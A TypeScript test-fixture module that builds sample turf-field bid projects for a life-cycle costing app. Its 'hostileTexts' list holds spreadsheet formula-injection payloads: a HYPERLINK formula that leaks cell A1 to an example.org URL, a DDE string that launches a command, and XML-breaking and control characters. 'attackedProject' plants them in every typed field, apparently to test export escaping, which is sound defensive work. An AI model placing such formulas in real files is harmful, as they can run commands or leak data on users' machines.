import { readFileSync } from "node:fs";
import fc from "fast-check";
import { readProjectFile } from "#lib/document";
import { type Project, type ProjectFile, projectFileSchema } from "#lib/evaluation";
import { anyLines } from "../cost/lines";
import { component, workedProject } from "../evaluation/worked-project";
import { criteria } from "./audit-criteria";

/** Projects whose money and scores hold everything that a workbook has to work out. */

const lump = (price: string) => ({ kind: "lump-sum", price }) as const;
const perArea = (price: string) => ({ kind: "per-area", price }) as const;
const perUnit = (quantity: string, unitPrice: string) => ({ kind: "per-unit", quantity, unitPrice }) as const;
const share = (of: string, part: string) => ({ kind: "share", share: part, of }) as const;

const theirs = { givenBy: "bid", category: "investment" } as const;
const owners = { givenBy: "owner-estimate", category: "operation-and-maintenance" } as const;
const line = (id: string, changes: object) => ({
  kind: "at-base-date",
  id,
  label: `Line ${id}`,
  ...theirs,
  ...changes,
});
const chain = (id: string, changes: object) => ({
  ...{ kind: "replacement-chain", id, label: `Part ${id}`, givenBy: "bid", lifeGivenBy: "owner-estimate" },
  ...changes,
});

/** Every kind of line, of price, of schedule and of place in a bid, in unlike units. */
const everyKind = [
  chain("carpet", {
    ...{ amount: perArea("$4.85/ft²"), life: "8 years", renewalSaving: "8 %", escalation: "1 %" },
    ...{ removal: perArea("$7.65/yd²"), removalGivenBy: "owner-estimate", removalAtStudyEnd: "used-life-share" },
  }),
  chain("pad", {
    ...{ amount: perArea("$12.50/m²"), life: "10 years", reuse: { line: "carpet", lives: "2" } },
    ...{ removal: lump("$21,000"), removalGivenBy: "bid", removalAtStudyEnd: "full" },
  }),
  chain("base", { amount: perArea("$3.10/ft²"), life: "30 years", removalAtStudyEnd: "none" }),
  chain("seams", {
    ...{ amount: lump("$64,000"), life: "3 years", firstReplacement: "5", replacedShare: "30 %", escalation: "-1 %" },
    ...{ removal: share("base-bid", "0.5 %"), removalGivenBy: "bid" },
  }),
  chain("fence", {
    amount: lump("$30,000"),
    life: "9 years",
    firstReplacement: "12",
    residual: "none",
    replacedShare: "60 %",
  }),
  chain("patches", {
    ...{ amount: lump("$45,000"), life: "25 years", firstReplacement: "6", replacedShare: "20 %", escalation: "0.5 %" },
    ...{ removal: lump("$7,000"), removalGivenBy: "bid" },
  }),
  chain("stand", { amount: lump("$30,000"), life: "12 years", residual: "stated", statedResidual: "$4,321.09" }),
  chain("pit", { amount: lump("$3,000"), life: "25 years", residual: "stated", statedResidual: "-$800" }),
  chain("gate", { amount: lump("$9,000"), life: "7 years", firstReplacement: "4", givenBy: "owner-estimate" }),
  line("goals", {
    kind: "in-year",
    amount: lump("$12,345.67"),
    year: "6",
    escalation: "2.5 %",
    category: "replacement",
  }),
  line("refund", { kind: "in-year", amount: lump("-$4,000"), year: "20", category: "residual" }),
  line("beyond", { kind: "in-year", amount: lump("$9,000"), year: "40" }),
  line("grooming-own", { ...owners, kind: "yearly", amount: perUnit("110 h", "$48/h"), from: "3", to: "12" }),
  line("repairs", { ...owners, kind: "yearly", amount: lump("$1,500"), escalation: "2 %" }),
  line("insurance", {
    role: { kind: "allowance" },
    kind: "yearly",
    amount: share("accepted-bid", "0.4 %"),
    to: "50",
    category: "testing",
  }),
  line("deep-clean", { kind: "periodic", amount: lump("$3,200"), every: "2 years", until: "18", except: "10, 14" }),
  line("relining", {
    kind: "periodic",
    amount: perUnit("12 yd²", "$4/ft²"),
    every: "4 years",
    from: "3",
    escalation: "1 %",
  }),
  line("deduct", { role: { kind: "alternate-deduct", accepted: "yes" }, amount: perUnit("3 short tons", "$0.95/lb") }),
  line("add-open", { role: { kind: "alternate-add", accepted: "no" }, amount: lump("$77,000") }),
  line("add-taken", { role: { kind: "alternate-add", accepted: "yes" }, amount: perUnit("250 kgal", "$0.009/gal") }),
  line("extra-rock", { role: { kind: "unit-price", acceptedQuantity: "40 yd³" }, amount: perUnit("1 yd³", "$85/yd³") }),
  line("allowance", { role: { kind: "allowance" }, amount: lump("$15,000") }),
  line("bond", { role: { kind: "bond" }, amount: share("levelled-bid", "1.2 %") }),
  line("tax", { role: { kind: "tax" }, amount: share("accepted-bid", "6.25 %") }),
  line("freight-share", { role: { kind: "freight" }, amount: share("base-bid", "2 %"), kind: "in-year", year: "1" }),
  line("mower", { ...owners, role: { kind: "owner-furnished" }, amount: lump("$18,500"), category: "owners-addition" }),
  line("option", { role: { kind: "option", expires: "2031-01-01", taken: "yes" }, amount: lump("$5,000") }),
  line("option-late", {
    role: { kind: "option", expires: "2026-07-02", taken: "yes" },
    amount: lump("$5,000"),
    kind: "in-year",
    year: "9",
  }),
  line("credit", { amount: lump("-$2,500.50") }),
];

/** A second bidder in other units, whose lines serve as the median of what others lack. */
const second = [
  chain("turf", {
    amount: perArea("$52/m²"),
    life: "10 years",
    removal: perUnit("80 t", "$95/t"),
    removalGivenBy: "owner-estimate",
  }),
  chain("shock-pad", { amount: perArea("$1.35/ft²"), life: "20 years" }),
  line("training", { amount: lump("$2,400") }),
  line("sand", { amount: perUnit("20 short tons", "$140/short ton") }),
  line("groomer", { ...owners, kind: "yearly", amount: lump("$4,000"), label: "Grooming by staff" }),
  line("bond", { role: { kind: "bond" }, amount: share("levelled-bid", "1 %") }),
];
const third = [
  line("all", { amount: lump("$900,000") }),
  line("training", { amount: lump("$3,100") }),
  line("sand", { amount: perUnit("38,000 lb", "$0.081/lb") }),
  line("visits", { kind: "yearly", amount: perUnit("2", "$800"), category: "testing" }),
];

const bidOf = (letter: string, prices: readonly object[], changes: object = {}) => ({
  ...{ id: `bid-${letter.toLowerCase()}`, letter, bidder: `Bidder ${letter}`, system: "Invented" },
  infill: { placement: "layered", components: [component("sand", "silica-sand", "3 lb/ft²")] },
  claims: [
    {
      id: "level",
      property: "g-max",
      figure: `${100 + letter.charCodeAt(0) - 60} g`,
      method: "f355-a",
      condition: "new",
      evidence: "accredited-laboratory",
    },
    {
      id: "mass",
      property: "carpet-total-mass",
      figure: "70 oz/yd²",
      method: "not-stated",
      condition: "new",
      evidence: "stated",
    },
    ...(letter === "C"
      ? []
      : [
          {
            id: "warranty",
            property: "warranty-years",
            figure: letter === "A" ? "6 to 11 years" : "at least 8 years",
            method: "not-stated",
            condition: "new",
            evidence: "stated",
          },
        ]),
  ],
  prices,
  ...changes,
});

const figure = (price: object) => ({ kind: "figure", price });
const entry = (bid: string, item: string, standing: string, changes: object = {}) => ({
  bid,
  item,
  standing,
  ...changes,
});

const costing = {
  levelling: [
    ...["a", "b", "c"].flatMap((letter) =>
      letter === "a" ? [] : [entry(`bid-${letter}`, "training", "included", { line: "training" })],
    ),
    entry("bid-a", "training", "excluded", { plug: { kind: "median" } }),
    entry("bid-b", "infill", "included", { line: "sand" }),
    entry("bid-c", "infill", "included", { line: "sand" }),
    entry("bid-a", "infill", "unclear", { plug: { kind: "median" } }),
    entry("bid-d", "infill", "excluded", { plug: { kind: "median", quantity: "9 t" } }),
    entry("bid-a", "permits", "by-owner", { plug: figure({ kind: "at-base-date", amount: lump("$3,500") }) }),
    entry("bid-b", "spare-material", "excluded", {
      plug: figure({ kind: "in-year", amount: perArea("$0.05/ft²"), year: "7" }),
    }),
    entry("bid-c", "grooming-contract", "excluded", {
      plug: figure({ kind: "yearly", amount: lump("$5,100"), escalation: "1 %" }),
    }),
    entry("bid-c", "site-protection", "excluded", {
      plug: figure({ kind: "periodic", amount: lump("$900"), every: "3 years" }),
    }),
    entry("bid-b", "old-field-removal", "unclear", { plug: { kind: "question", asked: "Is it?" } }),
  ],
  linkParameters: {
    ...{ freightPerLoad: "$1,900", topUpPrice: "$0.42/lb", wage: "$48/h", testVisitPrice: "$1,150" },
    ...{ tippingFee: "$62/short ton", haul: "$24/short ton", recyclingCredit: "$11/short ton", shockLayerLives: "2" },
    ...{ coolingDepth: "2 mm", coolingsPerYear: "30", waterPrice: "$9/kgal" },
  },
  links: [
    ...["freight", "infill-top-up", "impact-tests", "cooling-water"].map((link) => ({
      bid: "bid-b",
      link,
      choice: { kind: "computed" },
    })),
    ...["grooming", "removal-and-disposal", "shock-layer"].map((link) => ({
      bid: "bid-b",
      link,
      choice: { kind: "computed" },
    })),
    { bid: "bid-a", link: "removal-and-disposal", choice: { kind: "computed" } },
    {
      bid: "bid-c",
      link: "freight",
      choice: { kind: "stated", price: { kind: "at-base-date", amount: lump("$5,200") } },
    },
  ],
  baseAlternative: {
    ...{ label: "Natural grass", hoursPerYear: "800 h/year" },
    prices: [
      chain("rootzone", { amount: perArea("$5.60/ft²"), life: "20 years", givenBy: "owner-estimate" }),
      line("upkeep", { ...owners, kind: "yearly", amount: lump("$34,000"), escalation: "0.5 %" }),
    ],
  },
  comparedWith: { kind: "base-alternative" },
};

/** The conventions that differ from the worked example’s. */
export type MoneyText = Readonly<Partial<ProjectFile["brief"]["money"]>>;

/** A project from its text. */
export const projectOf = (file: unknown): Project => {
  const read = projectFileSchema.safeParse(file);
  if (read.success) return read.data;
  throw new Error(JSON.stringify(read.error.issues.slice(0, 5)));
};

/** All of it in one project as text; bid D is priced by the owner alone, bid E in another currency. */
export const everythingText = (money: MoneyText = {}) => ({
  ...workedProject,
  brief: { ...workedProject.brief, money: { ...workedProject.brief.money, ...money } },
  requirements: { ...workedProject.requirements, criteria },
  bids: [
    bidOf("A", everyKind),
    bidOf("B", second),
    bidOf("C", third),
    bidOf("D", [line("mower", { ...owners, amount: lump("$18,500") })]),
    bidOf("E", [line("all", { amount: lump("€800,000") })]),
  ],
  costing,
});

/** The same, read. */
export const everythingProject = (money: MoneyText = {}, changes: object = {}): Project =>
  projectOf({ ...everythingText(money), ...changes });

/** Six bids of lines drawn at random, always the same. */
export function drawnProject(money: MoneyText, seed: number): Project {
  const project = everythingProject(money, { costing: {} });
  const drawn = fc.sample(anyLines, { numRuns: 6, seed });
  const [first] = project.bids;
  if (first === undefined) throw new Error("the project has bids");
  const bids = drawn.map((prices, index) => {
    const letter = "ABCDEF"[index] ?? "X";
    return { ...first, id: `bid-${letter.toLowerCase()}`, letter, prices };
  });
  return { ...project, bids };
}

export const workedExample = (): Project => projectOf(workedProject);

export function demonstrationProject(): Project {
  const read = readProjectFile(
    readFileSync(new URL("../../app/_demo/demonstration-project.json", import.meta.url), "utf8"),
  );
  if (!read.ok) throw new Error("the demonstration project does not read");
  return read.value.project;
}

/**
 * Texts that can run when a file is opened, if a program takes them for a formula, and how they stand in a cell.
 * @source OWASP on formulas in spreadsheets: text that begins with = + - @, a tab or their full-width forms
 */
export const hostileTexts: readonly Readonly<{ text: string; shown: string }>[] = [
  ...[
    '=HYPERLINK("https://example.org/?"&A1,"Prices")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
    '=DDE("server";"topic";"item")',
    "</t></si><c><f>1+1</f></c>",
  ].map((text) => ({ text, shown: text })),
  { text: "turned \u202e back, \u0000 and \ud800 alone", shown: "turned ⟨U+202E⟩ back, \ufffd and \ufffd alone" },
];

/** The demonstration project with hostile texts wherever a person types. */
export function attackedProject(): Project {
  const project = demonstrationProject();
  let used = 0;
  const text = () => {
    used += 1;
    return hostileTexts[used % hostileTexts.length]?.text ?? "";
  };
  const spoilt = <T extends Readonly<{ label: string }>>(one: T): T => ({ ...one, label: text() });
  const { brief, requirements, bids, costing } = project;
  return {
    brief: { ...brief, name: text(), owner: text(), notice: text() },
    requirements: {
      ...requirements,
      criteria: requirements.criteria.map((one) => ({ ...spoilt(one), reason: text() })),
    },
    bids: bids.map((bid) => ({
      ...{ ...bid, bidder: text(), system: text() },
      prices: bid.prices.map((line) => ({ ...spoilt(line), document: text(), page: text(), note: text() })),
    })),
    costing: {
      ...costing,
      checklist: costing.checklist.map(spoilt),
      levelling: costing.levelling.map((one) => ({ ...one, document: text(), page: "", note: "" })),
      baseAlternative: costing.baseAlternative === null ? null : spoilt(costing.baseAlternative),
    },
  };
}
